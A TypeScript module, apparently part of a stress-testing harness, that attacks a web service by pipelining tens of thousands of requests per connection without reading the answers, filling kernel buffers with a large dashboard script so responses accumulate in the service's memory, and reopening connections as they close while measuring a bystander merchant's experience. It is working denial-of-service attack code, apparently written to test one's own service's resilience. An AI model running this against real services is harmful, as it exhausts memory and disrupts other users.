// Pipelines requests on connections that never read the responses, while another merchant works.

import type { AttackOptions, AttackReport } from './attack.ts'
import { quietRow, watchBystander } from './bystander.ts'
import { callFrom } from './call.ts'
import { pipelined, sendUnread } from './pipeline.ts'

/** Requests per connection. Their answers are more than the kernel buffers. */
const REQUESTS = 40_000
/** The first requests ask for the largest answer. They fill the kernel's buffers, so that later answers stay in the service. */
const LARGE = 60
const SMALL = ['/readyz', '/v1/usage'] as const
const RENEW_MS = 2_000

export const unreadAnswers =
  (connections: number) =>
  async ({ url, bystanderKey: key, seconds, memory }: AttackOptions): Promise<AttackReport> => {
    const before = memory()
    const quiet = await watchBystander({ url, key, seconds: seconds / 2 })
    const large = await largestPath(url)
    const texts = SMALL.map((small) => pipelined(pathsOf(large, small)))
    const open = () =>
      Promise.all(
        Array.from({ length: connections }, (_, at) =>
          sendUnread({ url, from: '127.0.0.1', bytes: texts[at % texts.length] ?? Buffer.alloc(0) }),
        ),
      )
    let sockets = await open()
    const renewing = setInterval(async () => {
      // Reopens the connections once the service has closed them all.
      const alive = sockets.filter((socket) => !socket.destroyed)
      if (alive.length === 0) sockets = await open()
    }, RENEW_MS)
    try {
      const noticed = await watchBystander({ url, key, seconds })
      const open = sockets.filter((socket) => !socket.destroyed).length
      return { ...quietRow(quiet), ...noticed, 'connections still held': open, ...memoryRows(before, memory()) }
    } finally {
      clearInterval(renewing)
      for (const socket of sockets) socket.destroy()
    }
  }

const pathsOf = (large: string, small: string) =>
  Array.from({ length: REQUESTS }, (_, at) => (at < LARGE ? large : small))

/** Finds the largest public file: the dashboard's script, a third of a megabyte. */
async function largestPath(url: string): Promise<string> {
  const { text } = await callFrom({ url, path: '/dashboard', from: '127.0.0.8' })
  return /src="([^"]+\.js)"/.exec(text)?.[1] ?? '/openapi.json'
}

export function memoryRows(before: number | null, after: number | null): AttackReport {
  if (before === null || after === null) return {}
  return { 'memory before MiB': Math.round(before), 'memory during MiB': Math.round(after) }
}
